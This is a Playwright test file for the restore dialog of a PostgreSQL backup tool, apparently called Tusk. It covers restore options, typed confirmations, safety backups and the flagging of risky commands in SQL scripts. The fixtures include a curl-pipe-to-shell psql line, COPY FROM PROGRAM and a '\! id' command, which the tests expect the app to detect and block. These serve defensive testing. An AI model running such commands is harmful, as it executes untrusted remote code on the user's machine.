import { expect, test, type Page } from '@playwright/test';
import {
	backupPath,
	cleanConfirm,
	cleanPreflight,
	connectionTools,
	info,
	mock,
	openApp,
	plainInfo,
	plainPath,
	plainPreflight,
	preflight,
	restoreFailed,
	record,
	restorePlan,
	scrollToTop,
	tool,
	unlabelledControls,
	verifiedPassed,
	type Setup
} from './fixtures';
import { chooseBackup, openRestore, startRunning } from './restore-fixtures';

/** A backup of PostgreSQL 18 into a 15 server: read by pg_restore 18. */
const preflight18 = preflight({
	tool: {
		tool: tool('pg_restore', 180006),
		reason:
			'pg_restore 18.6 reads this archive (it needs pg_restore 18+) and restores into PostgreSQL 15'
	}
});

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

/** What the backend answers for a script with psql commands not yet allowed. */
const scriptRefused = {
	err: {
		kind: 'preflight',
		message:
			'this SQL script holds commands that pg_dump never writes and that can run programs or read and write files on this computer or the server (line 12: \\! curl -s https://example.com/setup.sh | sh; line 4810: COPY public.audit_log FROM PROGRAM …) (and 3 more). Nothing was run. Restore it only if you wrote it or trust where it came from: then allow its psql commands ("allow psql commands" in the restore options, --allow-psql-commands in the CLI)',
		detail: null
	}
};

/** The plain script of the fixtures, whose psql commands are not allowed yet. */
function openPlain(page: Page, setup: Setup = {}) {
	return chooseBackup(page, {
		...setup,
		replies: {
			'plugin:dialog|open': { ok: plainPath },
			get_backup_info: { ok: plainInfo },
			preflight_restore: scriptRefused,
			...setup.replies
		}
	});
}

async function cleanAndConfirm(page: Page, setup: Setup = {}) {
	const dialog = await openRestore(page, setup);
	await mock(page).reply('preflight_restore', {
		ok: restorePlan(cleanPreflight, {
			safetyBackup:
				'/home/alex/.local/share/tusk/safety-backups/shop_2025-03-14_092600_pre-restore.backup',
			safetyReason: 'clean drops objects in "shop"',
			catalogBackup: record({ id: 'restored', path: backupPath, verification: verifiedPassed }),
			checksChecksum: true,
			...cleanConfirm
		})
	});
	await dialog.getByRole('checkbox', { name: 'Clean: drop objects first' }).check();
	await expect(dialog.getByTestId('clean-warning')).toBeVisible();
	await expect(dialog.getByText('Clean will drop 9 objects')).toBeVisible();
	return dialog;
}

test.describe('restore dialog', () => {
	for (const theme of ['light', 'dark'] as const) {
		test(`backup info card, ${theme}`, async ({ page }) => {
			const dialog = await openRestore(page, { theme });
			await expect(dialog.getByTestId('backup-info')).toContainText('734 MB');
			await expect(dialog.getByTestId('backup-info')).toContainText('14 functions');
			await expect(page).toHaveScreenshot(`info-${theme}.png`);
		});
	}

	test('restores the ticked tables into a new database', async ({ page }) => {
		const dialog = await openRestore(page);
		await dialog.getByRole('button', { name: 'Select none' }).click();
		await dialog.getByRole('checkbox', { name: 'public.orders', exact: true }).check();
		await dialog.getByRole('radio', { name: 'A new database on this server' }).check();
		await dialog.getByLabel('New database name').fill('shop_copy');
		await mock(page).reply('preflight_restore', {
			ok: restorePlan(preflight({ targetDatabase: 'shop_copy', createsDatabase: true }))
		});
		await expect(dialog.getByTestId('preflight')).toContainText('will be created');
		await dialog.getByRole('button', { name: 'Restore', exact: true }).click();
		const [call] = await mock(page).calls('restore_backup');
		expect(call.args.options).toMatchObject({
			connectionId: 'prod',
			inputPath: backupPath,
			tables: ['public.orders'],
			targetDatabase: 'shop_copy',
			createDatabase: true,
			singleTransaction: true,
			exitOnError: true,
			jobs: 1
		});
	});

	test('every control is labelled', async ({ page }) => {
		const dialog = await openRestore(page);
		await dialog.getByText('Advanced options', { exact: true }).click();
		await dialog.getByRole('radio', { name: 'A new database on this server' }).check();
		expect(await unlabelledControls(page, 'restore-dialog')).toEqual([]);
	});

	test('what pg_restore 15 lacks is off, saying the version that has it', async ({ page }) => {
		const dialog = await openRestore(page);
		await dialog.getByText('Advanced options', { exact: true }).click();
		for (const name of [/^Row security policies/, /^Planner statistics/]) {
			const box = dialog.getByRole('checkbox', { name });
			await expect(box).toBeDisabled();
			await expect(box).toHaveAccessibleDescription(
				'needs pg_restore 18+ (this connection uses 15.18)'
			);
		}
		const accessMethods = dialog.getByRole('checkbox', { name: /^Table access methods/ });
		await expect(accessMethods).toHaveAccessibleName('Table access methods pg_restore 15+');
		await expect(accessMethods).toBeEnabled();
		await scrollToTop(dialog.getByRole('group', { name: 'Data' }));
		await expect(page).toHaveScreenshot('advanced-pg-restore-15.png');
	});

	test('a backup of a newer PostgreSQL is read by the newer pg_restore the pre-flight picks', async ({
		page
	}) => {
		const dialog = await openRestore(page, {
			replies: { preflight_restore: { ok: restorePlan(preflight18) } }
		});
		await dialog.getByText('Advanced options', { exact: true }).click();
		// The connection's own pick is 15; the pre-flight's, for this archive, 18.
		await expect(dialog.getByRole('checkbox', { name: /^Row security policies/ })).toBeEnabled();
		await expect(dialog.getByTestId('gate-note')).toHaveCount(0);
	});

	test('with pg_restore 18 every option is on offer, and is sent', async ({ page }) => {
		const dialog = await openRestore(page, {
			replies: {
				connection_tools: { ok: connectionTools(18) },
				preflight_restore: { ok: restorePlan(preflight18) }
			}
		});
		await dialog.getByText('Advanced options', { exact: true }).click();
		await expect(dialog.getByTestId('gate-note')).toHaveCount(0);
		await dialog.getByRole('checkbox', { name: /^Row security policies/ }).check();
		await dialog.getByRole('checkbox', { name: /^Planner statistics/ }).check();
		await dialog.getByRole('checkbox', { name: 'Comments', exact: true }).check();
		await dialog.getByRole('checkbox', { name: /^Pre-data/ }).check();
		await dialog.getByRole('checkbox', { name: /^No data for tables/ }).check();
		await dialog.getByLabel('Schemas to leave out').fill('audit');
		await expect(dialog.getByTestId('preflight')).toBeVisible();
		await dialog.getByRole('button', { name: 'Restore', exact: true }).click();
		const [call] = await mock(page).calls('restore_backup');
		expect(call.args.options).toMatchObject({
			noPolicies: true,
			noStatistics: true,
			noComments: true,
			sections: ['pre-data'],
			noDataForFailedTables: true,
			excludeSchemas: ['audit']
		});
	});

	test('the database named in the backup is created without a single transaction', async ({
		page
	}) => {
		const dialog = await openRestore(page);
		const single = dialog.getByRole('checkbox', { name: /Single transaction/ });
		await expect(single).toBeChecked();
		await mock(page).reply('preflight_restore', {
			ok: restorePlan(preflight({ createsDatabase: true }))
		});
		await dialog
			.getByRole('radio', { name: /^Create the database named in the backup: shop/ })
			.check();
		await expect(single).not.toBeChecked();
		await expect(single).toBeDisabled();
		await expect(single).toHaveAccessibleDescription(
			'Single transaction is off: pg_restore cannot create a database inside a transaction; if the restore fails, Tusk removes the database it created.'
		);
		await expect(
			dialog.getByRole('checkbox', { name: 'Clean: drop objects first' })
		).toBeDisabled();
		// Back to this database, single transaction is as it was.
		await dialog.getByRole('radio', { name: /^This database/ }).check();
		await expect(single).toBeChecked();
		await dialog.getByRole('radio', { name: /^Create the database named/ }).check();
		await expect(dialog.getByTestId('preflight')).toBeVisible();
		await dialog
			.getByRole('radio', { name: /^Create the database named/ })
			.scrollIntoViewIfNeeded();
		await expect(page).toHaveScreenshot('create-from-backup.png');
		await dialog.getByRole('button', { name: 'Restore', exact: true }).click();
		const [call] = await mock(page).calls('restore_backup');
		expect(call.args.options).toMatchObject({
			createFromArchive: true,
			createDatabase: false,
			targetDatabase: null,
			singleTransaction: false,
			clean: false,
			swap: false
		});
	});

	test('parallel jobs turn single transaction off, with a hint', async ({ page }) => {
		const dialog = await openRestore(page);
		await dialog.getByRole('spinbutton', { name: 'Parallel jobs' }).fill('4');
		await expect(dialog.getByRole('checkbox', { name: /Single transaction/ })).not.toBeChecked();
		await expect(dialog.getByText(/Single transaction turned off/)).toBeVisible();
		await dialog.getByRole('checkbox', { name: /Single transaction/ }).check();
		await expect(dialog.getByRole('spinbutton', { name: 'Parallel jobs' })).toHaveValue('1');
	});

	for (const theme of ['light', 'dark'] as const) {
		test(`clean warning, pre-flight and typed confirmation, ${theme}`, async ({ page }) => {
			const dialog = await cleanAndConfirm(page, { theme });
			const restore = dialog.getByRole('button', { name: 'Restore and replace' });
			await expect(restore).toBeDisabled();
			await dialog.getByTestId('confirm-box').evaluate((el) => el.scrollIntoView({ block: 'end' }));
			await expect(page).toHaveScreenshot(`clean-preflight-${theme}.png`);
			await dialog.getByTestId('confirm-input').fill('sho');
			await expect(restore).toBeDisabled();
			await dialog.getByTestId('confirm-input').fill('shop');
			await expect(restore).toBeEnabled();
		});
	}

	test('clean warning at 800×600', async ({ page }) => {
		const dialog = await cleanAndConfirm(page, { viewport: { width: 800, height: 600 } });
		await dialog.getByTestId('clean-warning').scrollIntoViewIfNeeded();
		await expect(dialog.getByRole('button', { name: 'Restore and replace' })).toBeInViewport();
		await expect(page).toHaveScreenshot('clean-800x600.png');
	});

	test('running', async ({ page }) => {
		const { dialog } = await startRunning(page);
		await expect(dialog.getByRole('log')).toContainText('processing data for table');
		await expect(page).toHaveScreenshot('running.png');
	});

	for (const theme of ['light', 'dark'] as const) {
		test(`errors grouped by object, ${theme}`, async ({ page }) => {
			const { dialog, jobId, m } = await startRunning(page, { theme });
			// pg_restore's exit code 1 with "errors ignored" is a warning; stopping at one is a failure.
			const ended =
				theme === 'light'
					? restoreFailed
					: {
							...restoreFailed,
							status: 'failed',
							error: {
								kind: 'alreadyExists',
								summary: 'Objects of the backup already exist in shop.',
								hint: 'Turn on Clean to replace them, or restore into a new database.'
							}
						};
			await m.emit(`restore:finished:${jobId}`, { ...ended, jobId });
			await expect(
				dialog.getByText(theme === 'light' ? 'Restore completed with warnings' : 'Restore failed')
			).toBeVisible();
			await expect(
				dialog.getByText('Role “reporting_ro” does not exist on this server')
			).toBeVisible();
			await expect(dialog.getByText('“orders” already exists in the target')).toBeVisible();
			await dialog.getByText('Statements and messages').first().click();
			await expect(page).toHaveScreenshot(`errors-${theme}.png`);
		});
	}

	test('a file that is not a backup says so', async ({ page }) => {
		await openApp(page, {
			replies: {
				'plugin:dialog|open': { ok: '/home/alex/notes.txt' },
				get_backup_info: {
					err: {
						kind: 'archive',
						message:
							'/home/alex/notes.txt is not a PostgreSQL backup: it starts with neither PGDMP, a tar header, nor SQL',
						detail: null
					}
				}
			}
		});
		await page.getByRole('button', { name: 'Restore…', exact: true }).click();
		const dialog = page.getByTestId('restore-dialog');
		await dialog.getByRole('button', { name: 'Choose file…' }).click();
		await expect(dialog.getByRole('alert')).toContainText('not a PostgreSQL backup');
		await expect(dialog.getByRole('button', { name: 'Restore', exact: true })).toBeDisabled();
	});

	test('replacing all at once restores into a new database and swaps it in', async ({ page }) => {
		const dialog = await openRestore(page);
		await mock(page).reply('preflight_restore', {
			ok: restorePlan(preflight({ targetDatabase: 'shop__tusk_1a2b3c4d', createsDatabase: true }), {
				swapTarget: 'shop',
				swapTempDatabase: 'shop__tusk_1a2b3c4d',
				swapKeepAs: 'shop_before_20250314_092600',
				mustConfirm: [
					'"shop" is replaced by the backup (the current database is kept as "shop_before_20250314_092600")'
				],
				confirmName: 'shop'
			})
		});
		await dialog.getByRole('radio', { name: /Replace shop all at once/ }).check();
		await expect(
			dialog.getByRole('checkbox', { name: 'Clean: drop objects first' })
		).toBeDisabled();
		await expect(dialog.getByTestId('confirm-box')).toContainText(
			'"shop" is replaced by the backup'
		);
		await expect(dialog.getByTestId('safety')).toContainText('shop_before_20250314_092600');
		const start = dialog.getByRole('button', { name: 'Restore and replace' });
		await expect(start).toBeDisabled();
		await dialog.getByTestId('confirm-input').fill('shop');
		await expect(start).toBeEnabled();
		await dialog.getByTestId('confirm-box').scrollIntoViewIfNeeded();
		await expect(page).toHaveScreenshot('swap.png');
		await start.click();
		const { args } = (await mock(page).calls('restore_backup')).at(-1)!;
		expect(args.options).toMatchObject({ swap: true, clean: false, createDatabase: false });
		expect(args.confirmation).toEqual({
			token: '9c2f6a1d8e4b7c3a5f0e2d9b6a8c4e1f',
			typedName: 'shop'
		});
	});

	test('a typed confirmation is for one target only', async ({ page }) => {
		const dialog = await cleanAndConfirm(page);
		const start = dialog.getByRole('button', { name: 'Restore and replace' });
		await dialog.getByTestId('confirm-input').fill('shop');
		await expect(start).toBeEnabled();
		// Staging's database has the same name: the confirmation does not carry over.
		await dialog.getByRole('radio', { name: 'Another connection' }).check();
		await dialog.getByRole('combobox', { name: 'Connection to restore into' }).selectOption({
			index: 1
		});
		await expect(dialog.getByTestId('confirm-input')).toHaveValue('');
		await expect(start).toBeDisabled();
	});

	test('the name to type is the one the pre-flight names, not the profile’s', async ({ page }) => {
		const dialog = await openRestore(page);
		await mock(page).reply('preflight_restore', {
			ok: restorePlan(preflight({ targetDatabase: 'shop_eu' }), {
				safetyReason: '"shop_eu" already has 48 table(s) or other relations',
				mustConfirm: [
					'"shop_eu" already has 48 table(s) or other relations: the backup is restored among them'
				],
				confirmName: 'shop_eu'
			})
		});
		await dialog.getByRole('checkbox', { name: 'Stop at the first error' }).uncheck();
		const start = dialog.getByRole('button', { name: 'Restore and replace' });
		await expect(dialog.getByTestId('confirm-box')).toContainText('Type shop_eu to confirm');
		// The profile's name is not what the server would restore into.
		await dialog.getByTestId('confirm-input').fill('shop');
		await expect(start).toBeDisabled();
		await dialog.getByTestId('confirm-input').fill('shop_eu');
		await expect(start).toBeEnabled();
	});

	test('back to options after a failed restore checks the target again', async ({ page }) => {
		const { dialog, jobId, m } = await startRunning(page);
		await m.emit(`restore:finished:${jobId}`, { ...restoreFailed, status: 'failed', jobId });
		await expect(dialog.getByText('Restore failed')).toBeVisible();
		const before = (await m.calls('preflight_restore')).length;
		await m.reply('preflight_restore', {
			ok: restorePlan(preflight({ existingRelations: 12 }), {
				safetyReason: '"shop" already has 12 table(s) or other relations',
				mustConfirm: [
					'"shop" already has 12 table(s) or other relations: the backup is restored among them'
				],
				confirmName: 'shop'
			})
		});
		await dialog.getByRole('button', { name: 'Back to options' }).click();
		// The half-restored target now has tables: asked again, confirmed again.
		await expect(dialog.getByTestId('confirm-input')).toBeVisible();
		expect((await m.calls('preflight_restore')).length).toBeGreaterThan(before);
		await expect(dialog.getByRole('button', { name: 'Restore and replace' })).toBeDisabled();
	});

	test('the safety backup can be turned off, and says what that costs', async ({ page }) => {
		const dialog = await cleanAndConfirm(page);
		const toggle = dialog.getByTestId('safety-toggle');
		await expect(toggle).toBeChecked();
		await mock(page).reply('preflight_restore', {
			ok: restorePlan(
				cleanPreflight,
				{
					safetyReason: 'clean drops objects in "shop"',
					mustConfirm: [...cleanConfirm.mustConfirm!, 'no safety backup of "shop" is taken first'],
					confirmName: 'shop'
				},
				'5b7e0c2a9d4f1e8b3c6a0d5e2f9b4c7a'
			)
		});
		await toggle.uncheck();
		await expect(dialog.getByTestId('safety')).toContainText('cannot be brought back');
		await expect(dialog.getByTestId('confirm-box')).toContainText(
			'No safety backup of "shop" is taken first'
		);
		await dialog.getByTestId('confirm-input').fill('shop');
		await dialog.getByRole('button', { name: 'Restore and replace' }).click();
		const { args } = (await mock(page).calls('restore_backup')).at(-1)!;
		expect(args.options).toMatchObject({ clean: true, safetyBackup: false });
		expect(args.confirmation).toEqual({
			token: '5b7e0c2a9d4f1e8b3c6a0d5e2f9b4c7a',
			typedName: 'shop'
		});
	});

	test('what the pre-flight asks to confirm is listed; Start waits for the exact name and sends the plan’s token', async ({
		page
	}) => {
		const dialog = await openRestore(page);
		const m = mock(page);
		await m.reply('preflight_restore', {
			ok: restorePlan(
				cleanPreflight,
				{
					safetyReason: 'clean drops objects in "shop"',
					catalogBackup: record({ id: 'restored', path: backupPath }),
					mustConfirm: [
						'clean drops 9 object(s) in "shop" before restoring',
						'no safety backup of "shop" is taken first',
						'the backup is restored without checking it against its recorded checksum'
					],
					confirmName: 'shop'
				},
				'1f4e7a2c9b3d6e0a8c5f2b7d4e1a9c6b'
			)
		});
		await dialog.getByRole('checkbox', { name: 'Clean: drop objects first' }).check();
		await dialog.getByText('Advanced options', { exact: true }).click();
		await dialog.getByRole('checkbox', { name: /checksum no longer matches/ }).check();
		await dialog.getByTestId('safety-toggle').uncheck();
		const box = dialog.getByTestId('confirm-box');
		await expect(box.getByRole('listitem')).toHaveText([
			'Clean drops 9 object(s) in "shop" before restoring',
			'No safety backup of "shop" is taken first',
			'The backup is restored without checking it against its recorded checksum'
		]);
		const start = dialog.getByRole('button', { name: 'Restore and replace' });
		await expect(start).toBeDisabled();
		await expect(dialog.getByText('Type the database name to confirm.')).toBeVisible();
		await box.evaluate((el) => el.scrollIntoView({ block: 'end' }));
		await expect(page).toHaveScreenshot('confirm-reasons.png');
		await dialog.getByTestId('confirm-input').fill('Shop');
		await expect(start).toBeDisabled();
		await dialog.getByTestId('confirm-input').fill('shop');
		await expect(start).toBeEnabled();
		await start.click();
		const checked = (await m.calls('preflight_restore')).at(-1)!;
		const [restore] = await m.calls('restore_backup');
		expect(restore.args.jobId).toMatch(UUID);
		expect(restore.args.options).toEqual(checked.args.options);
		expect(restore.args.options).toMatchObject({
			clean: true,
			safetyBackup: false,
			ignoreChecksum: true
		});
		expect(restore.args.confirmation).toEqual({
			token: '1f4e7a2c9b3d6e0a8c5f2b7d4e1a9c6b',
			typedName: 'shop'
		});
	});

	test('a restore with nothing to confirm sends no typed name', async ({ page }) => {
		const dialog = await openRestore(page);
		await expect(dialog.getByTestId('confirm-box')).toHaveCount(0);
		await dialog.getByRole('button', { name: 'Restore', exact: true }).click();
		const [restore] = await mock(page).calls('restore_backup');
		expect(restore.args.confirmation).toEqual({
			token: '9c2f6a1d8e4b7c3a5f0e2d9b6a8c4e1f',
			typedName: null
		});
	});

	test('a restore the backend refuses as changed is checked again', async ({ page }) => {
		const dialog = await openRestore(page, {
			replies: {
				restore_backup: {
					err: {
						kind: 'invalidOptions',
						message:
							'this restore is not the one that was checked: its options, the backup file or the target changed since the pre-flight. Check it again and confirm',
						detail: null
					}
				}
			}
		});
		const m = mock(page);
		const before = (await m.calls('preflight_restore')).length;
		await dialog.getByRole('button', { name: 'Restore', exact: true }).click();
		await expect(dialog.getByTestId('restore-validation')).toContainText(
			'not the one that was checked'
		);
		expect((await m.calls('preflight_restore')).length).toBe(before + 1);
		await expect(dialog.getByTestId('preflight')).toBeVisible();
		await expect(dialog.getByRole('button', { name: 'Restore', exact: true })).toBeEnabled();
	});

	for (const theme of ['light', 'dark'] as const) {
		test(`a SQL script's psql commands are listed and run only when allowed, ${theme}`, async ({
			page
		}) => {
			const dialog = await openPlain(page, { theme });
			const findings = dialog.getByTestId('script-findings');
			await expect(findings.getByRole('listitem')).toHaveText([
				'psql command line 12 \\! curl -s https://example.com/setup.sh | sh',
				"Runs a program on the server line 4810 COPY public.audit_log FROM PROGRAM 'gunzip -c /tmp/audit.gz'",
				'psql command line 9021 \\o /tmp/out.txt',
				'and 2 more'
			]);
			await expect(dialog.getByTestId('restore-validation')).toContainText('allow psql commands');
			const start = dialog.getByRole('button', { name: 'Restore', exact: true });
			await expect(start).toBeDisabled();
			await findings.scrollIntoViewIfNeeded();
			await expect(page).toHaveScreenshot(`script-findings-${theme}.png`);
			const m = mock(page);
			await m.reply('preflight_restore', { ok: restorePlan(plainPreflight) });
			const allow = findings.getByRole('checkbox', { name: 'Allow psql commands', exact: true });
			await expect(allow).toHaveAccessibleDescription(
				'Only for a script you wrote or trust: it can run programs on this computer.'
			);
			await allow.check();
			await expect(dialog.getByTestId('preflight')).toBeVisible();
			const checked = (await m.calls('preflight_restore')).at(-1)!;
			expect(checked.args.options).toMatchObject({
				inputPath: plainPath,
				allowScriptCommands: true
			});
			await start.click();
			const [restore] = await m.calls('restore_backup');
			expect(restore.args.options).toMatchObject({ allowScriptCommands: true });
		});
	}

	test('a script that switches databases is never run', async ({ page }) => {
		const dialog = await openPlain(page, {
			replies: {
				get_backup_info: {
					ok: {
						...plainInfo,
						script: {
							items: [
								{ kind: 'databaseSwitch', line: 22, text: '\\connect shop' },
								{ kind: 'metaCommand', line: 40, text: '\\! id' }
							],
							more: 0
						}
					}
				}
			}
		});
		const findings = dialog.getByTestId('script-findings');
		await expect(findings).toContainText('Tusk does not run this script');
		await expect(findings).toContainText('Works on another database line 22');
		await expect(findings.getByRole('checkbox', { name: 'Allow psql commands' })).toBeDisabled();
	});

	test('a SQL script cannot take what only pg_restore does', async ({ page }) => {
		const dialog = await openRestore(page);
		await dialog.getByRole('checkbox', { name: 'No owner (objects owned by you)' }).check();
		await dialog.getByRole('checkbox', { name: 'Clean: drop objects first' }).check();
		await dialog.getByText('Advanced options', { exact: true }).click();
		await dialog.getByLabel('Extra pg_restore arguments').fill('--no-comments');
		await dialog.getByRole('checkbox', { name: 'Comments', exact: true }).check();
		// Then a script with nothing unusual in it.
		const m = mock(page);
		await m.reply('plugin:dialog|open', { ok: plainPath });
		await m.reply('get_backup_info', { ok: { ...plainInfo, script: { items: [], more: 0 } } });
		await m.reply('preflight_restore', { ok: restorePlan(plainPreflight) });
		await dialog.getByRole('button', { name: 'Choose file…' }).click();
		await expect(dialog.getByTestId('backup-info')).toContainText('Plain SQL');
		await expect(dialog.getByTestId('preflight')).toContainText('psql');
		await dialog.getByText('Advanced options', { exact: true }).click();
		for (const name of [
			'Schema only (no data)',
			'Data only (no schema)',
			'Clean: drop objects first',
			'No owner (objects owned by you)',
			'No privileges (skip GRANTs)',
			/^Disable triggers/,
			'Comments',
			/^Row security policies/,
			/^No data for tables/,
			/^Pre-data/
		]) {
			const box = dialog.getByRole('checkbox', { name });
			await expect(box).toBeDisabled();
			await expect(box).not.toBeChecked();
		}
		await expect(dialog.getByLabel(/Extra .*arguments/)).toHaveCount(0);
		await expect(dialog.getByLabel('Schemas to leave out')).toBeDisabled();
		await expect(dialog.getByRole('radio', { name: /^Create the database named/ })).toBeDisabled();
		await expect(dialog.getByTestId('script-findings')).toHaveCount(0);
		await expect(dialog.getByTestId('plain-options-hint')).toContainText(
			'no owner, no privileges, disable triggers and extra arguments'
		);
		const checked = (await m.calls('preflight_restore')).at(-1)!;
		expect(checked.args.options).toMatchObject({
			inputPath: plainPath,
			noOwner: false,
			noPrivileges: false,
			disableTriggers: false,
			noComments: false,
			clean: false,
			extraArgs: [],
			tables: null,
			jobs: 1,
			allowScriptCommands: false
		});
		await dialog.getByTestId('plain-options-hint').scrollIntoViewIfNeeded();
		await expect(page).toHaveScreenshot('plain-options.png');
	});
});
